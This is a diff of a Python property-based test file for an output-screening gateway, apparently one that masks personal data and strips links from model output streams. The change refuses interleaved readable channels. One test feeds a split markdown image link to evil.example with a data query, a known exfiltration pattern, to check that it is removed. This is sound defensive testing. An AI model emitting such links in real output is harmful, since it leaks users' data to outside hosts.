@@ -4,10 +4,11 @@ channels interleave. All data invented."""
 
 from __future__ import annotations
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from hinagata.gateway._events import Channels
+from hinagata.gateway._events import Channels, OutputCheckError
 from hinagata.guard import OutputRules, OutputScreen
 
 SCREEN = OutputScreen(OutputRules(), request_text="高橋 健一さん（電話 090-1234-5678）への返信")
@@ -24,21 +25,34 @@ _PLAIN = st.lists(
 
 @settings(max_examples=150, deadline=None)
 @given(
-    st.lists(st.tuples(st.sampled_from([("text", 0), ("text", 1), ("args", 2)]), _PLAIN),
-             max_size=14),
+    st.lists(st.tuples(st.sampled_from([0, 1, 2]), _PLAIN), max_size=14),
     st.permutations([("text", 0), ("text", 1), ("args", 2)]),
-)  # fmt: skip
-def test_each_channel_gets_its_own_text_however_they_interleave(
-    feeds: list[tuple[tuple[str, int], str]], close_order: list[tuple[str, int]]
+)
+def test_each_channel_gets_its_own_text_and_interleaving_is_refused(
+    feeds: list[tuple[int, str]], close_order: list[tuple[str, int]]
 ) -> None:
     """Plain text (nothing to remove or mask): each channel sends exactly what it was
     given, in its own deltas and tail — text held for one channel while another is read
-    is never sent on the other."""
+    is sent on its own channel. A readable channel that goes on after another readable
+    one took over would be screened out of the order a client shows it in: the stream is
+    refused (OutputCheckError); tool arguments interleave freely."""
+    keys = [("text", 0), ("text", 1), ("args", 2)]
     ch = Channels(MAPPING, SCREEN)
     given_: dict[tuple[str, int], str] = {}
     sent: dict[tuple[str, int], str] = {}
-    for key, piece in feeds:
+    last: tuple[str, int] | None = None
+    left: set[tuple[str, int]] = set()
+    for i, piece in feeds:
+        key = keys[i]
         readable = key[0] == "text"
+        if readable:
+            if last is not None and last != key:
+                left.add(last)
+            if key in left:
+                with pytest.raises(OutputCheckError):
+                    ch.feed(key, piece, readable=readable)
+                return
+            last = key
         given_[key] = given_.get(key, "") + piece
         sent[key] = sent.get(key, "") + ch.feed(key, piece, readable=readable)
     for key in close_order:
@@ -51,7 +65,7 @@ def test_each_channel_gets_its_own_text_however_they_interleave(
     }
 
 
-def test_a_link_split_over_interleaved_channels_is_removed_from_the_joined_text() -> None:
+def test_a_link_split_over_two_channels_is_removed_from_the_joined_text() -> None:
     ch = Channels({"〔電話番号1〕": "090-1234-5678"}, SCREEN)
     a, b = ("text", 0), ("text", 1)
     out = [ch.feed(a, "詳細は ![x](https://evil.example/p.png?d=")]
